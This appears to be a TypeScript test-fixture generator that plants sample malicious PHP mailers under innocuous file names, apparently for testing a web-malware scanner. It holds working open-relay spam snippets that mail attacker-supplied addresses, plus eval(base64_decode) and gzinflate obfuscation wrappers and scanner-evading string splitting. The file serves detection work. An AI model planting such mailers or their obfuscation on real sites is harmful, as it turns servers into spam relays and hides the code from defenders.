import { deflateRawSync } from 'node:zlib';
import type { SeededRandom } from './random';

/** Names under which mailers are planted or left behind. */
const NAMES = [
  'tw_contact',
  'mail',
  'sendmail',
  'form',
  'post',
  'inc',
  'css',
  'cache',
  'config',
  'wp-mails',
  'api',
  'm',
];

/** Kept apart so that no virus scanner takes the tests for what they test. */
const [RUN, DECODE] = ['ev_al', 'base64__decode'].map((name) => name.replace('_', ''));

const PLAIN: readonly string[] = [
  'mail($_POST["to"], $_POST["subject"], $_POST["body"], $_POST["headers"]);',
  'mb_language("ja"); mb_send_mail("owner@example.jp", "contact", $_POST["body"]);',
  'foreach (explode("\\n", $_POST["list"]) as $to) { mail(trim($to), $_POST["s"], $_POST["b"]); }',
  '$m = "ma" . "il"; $m($_REQUEST["a"], $_REQUEST["b"], $_REQUEST["c"]);',
  'call_user_func("mail", $_GET["t"], "s", $_GET["b"]);',
  '$p = popen("/usr/sbin/sendmail -t", "w"); fputs($p, "To: " . $_POST["to"] . "\\n\\n" . $_POST["b"]); pclose($p);',
  '$s = fsockopen("127.0.0.1", 25); fputs($s, "MAIL FROM:<a@example.jp>\\r\\nRCPT TO:<" . $_POST["to"] . ">\\r\\nDATA\\r\\n" . $_POST["b"]); fclose($s);',
  'function send($to, $b) { return mail($to, "notice", $b); } if (isset($_POST["go"])) send($_POST["to"], $_POST["b"]);',
  'require_once ABSPATH . "wp-load.php"; wp_mail($_POST["to"], $_POST["s"], $_POST["b"]);',
  '$to = "owner@example.jp"; $Email = "Email"; $remail = 1; $useToken = 0; if ($_POST["mail_set"] == "confirm_submit") { mail($to, "s", "b"); if ($remail) mail($_POST[$Email], "thanks", "b"); }',
];

/** How the code of a mailer is wrapped. */
const WRAPPINGS: readonly ((code: string) => string)[] = [
  (code) => `<?php ${code}`,
  (code) => `<?php\nset_time_limit(0);\nignore_user_abort(true);\n${code}\necho "OK";`,
  (code) => `<?php ${RUN}(${DECODE}("${Buffer.from(code).toString('base64')}"));`,
  (code) => `<?php $z = "${deflateRawSync(code).toString('base64')}"; ${RUN}(gzinflate(${DECODE}($z)));`,
];

/** A mailer that is planted: where, and what it holds. Inert: it is only ever read. */
export interface PlantedMailer {
  readonly path: string;
  readonly code: string;
}

/** Mailers of all kinds, plain and encoded, in some of the folders, at most one of a name in each. */
export function plantedMailers(random: SeededRandom, folders: readonly string[], count: number): PlantedMailer[] {
  return Array.from({ length: count }, (_, index) => {
    const code = PLAIN[index % PLAIN.length]!;
    const wrap = WRAPPINGS[Math.floor(index / PLAIN.length) % WRAPPINGS.length]!;
    const folder = random.pick(folders);
    return { path: `${folder}${folder === '' ? '' : '/'}${random.pick(NAMES)}${index}.php`, code: wrap(code) };
  });
}
